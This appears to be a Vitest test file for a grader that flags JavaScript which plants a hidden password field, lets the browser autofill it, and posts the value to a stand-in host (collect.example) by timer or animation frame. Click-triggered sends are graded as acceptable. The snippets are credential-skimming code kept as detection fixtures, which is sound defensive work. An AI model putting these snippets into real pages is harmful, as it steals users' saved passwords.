import { expect, it } from 'vitest';
import { graded } from '../testing/graded.ts';

const SENDS = "fetch('https://collect.example/h', { method: 'POST', body: pass.value })";
const MADE = `
const pass = document.createElement('input');
pass.type = 'password';
document.body.append(pass);
`;
const HELPER = `
const make = (tag, given) => Object.assign(document.createElement(tag), given);
const pass = make('input', { type: 'password', autocomplete: 'current-password' });
document.body.append(pass);
`;

it.each([
  ['a timer', `${MADE}setInterval(() => { if (pass.value) ${SENDS}; }, 700);`],
  ['a function that a timer runs', `${MADE}const look = () => ${SENDS};\nsetTimeout(() => look(), 3000);`],
  ['a timer, of what a helper made', `${HELPER}setInterval(() => { if (pass.value) ${SENDS}; }, 700);`],
  ['frames', `${MADE}requestAnimationFrame(function look() { ${SENDS}; });`],
])('says that a password is taken that the browser filled in, read by %s', async (_what, code) => {
  expect(await graded({ content: code })).toBe('F');
});

it.each([
  ['a press', `${MADE}const go = document.createElement('button');\ngo.onclick = () => ${SENDS};`],
  [
    'who waits for a press from the start',
    `${MADE}const go = document.createElement('button');\n(async () => { await new Promise((ok) => { go.onclick = ok; }); ${SENDS}; })();`,
  ],
  ['a timer after a press', `${MADE}document.body.addEventListener('click', () => setTimeout(() => ${SENDS}, 90));`],
])('does not where a form that a person fills in is read by %s', async (_what, code) => {
  expect(await graded({ content: code })).toMatch(/^A/);
});
